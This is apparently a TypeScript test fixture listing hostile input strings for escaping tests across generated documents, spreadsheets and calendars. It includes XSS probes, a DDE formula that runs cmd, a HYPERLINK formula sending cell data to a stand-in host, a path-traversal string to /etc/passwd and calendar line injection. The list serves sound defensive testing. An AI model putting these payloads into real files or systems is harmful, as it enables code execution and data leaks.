/**
 * Texts that would do harm, or break a file, in any output that let them: as they are, escaped for nothing. Every output is made with each
 * of them wherever it takes a text: documents, sheets, calendars, verdicts, reports. Names take letters, digits and `_` only.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'the end of a script': '</script><script>alert(1)</script><!--',
  'an image that cannot load': '"><img src=x onerror=alert(1)>',
  'an attribute': `' onmouseover='alert(1)`,
  'the end of everything': '</td></table></style></title></main></svg><h1>x',
  'a comment and a section': '<!-- ]]> --> <![CDATA[ x ]]>',
  'a template': '{{title}} {{{title}}} {{#each x}}{{> page}} ${x} <%= x %>',
  'a table': 'a | b\n|---|---|\n| c | d |',
  'a heading and a list': '# a\n- b\n1. c\n> d',
  code: '`a` ``` b ~~~ c',
  links: '[a](javascript:alert(1)) ![b](http://c.example/d.png) <http://e.example>',
  'a reference': '[a]: http://b.example',
  entities: '&lt;b&gt; &#60; &amp;amp; _x000D_ _x003C_',
  'right to left': 'a \u202e\u2067b c',
  'marks that nobody sees': 'a\u200b\u200f\u2060\u00ad\ufeffb',
  'a byte order mark first': '\ufeff甲',
  'a very long word': 'x'.repeat(5000),
  emoji: '👩‍👩‍👧‍👦 🏤 e\u0301 \u{10ffff}',
  'a formula': "=cmd|'/c calc'!A1",
  'a formula with a plus': '+1+cmd|x!A1',
  'a formula with a minus': '-2+3+cmd|x!A1',
  'a formula with an at': '@SUM(1+1)*cmd|x!A1',
  'a full-width formula': '＝1+1',
  'a tab and a formula': '\t=1+1',
  'a line end and a formula': '\r=1+1',
  'a formula in quotes': '"=1+1","=2',
  'a link as a formula': '=HYPERLINK("http://a.example?"&A1,"x")',
  'a path': '../../etc/passwd\u0007',
  'lines of a calendar': 'x\r\nEND:VEVENT\r\nBEGIN:VALARM;a,b:c\\n',
  'lines of other kinds': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  'control characters': 'a\u0000b\u0001c\u001bd[31m\u007f\u009b',
  'half a character': 'a\ud800b\udc00',
  'no characters': 'a\ufffeb\uffff',
};

/** The text as a literal of a spec. */
export function specLiteral(text: string): string {
  const code = (unit: string) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`;
  // eslint-disable-next-line no-control-regex -- these cannot stand in a spec as they are
  return `"${text.replace(/["\\]/g, '\\$&').replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\ud800-\udfff\ufffe\uffff]/g, code)}"`;
}

/** What is left of the text in a file of clauses: no text file holds control characters or halves of characters. */
export function inTextFile(text: string): string {
  // eslint-disable-next-line no-control-regex -- these are left out
  return text.replace(/[\u0000-\u0008\u000b-\u001f]|\p{Surrogate}/gu, '');
}
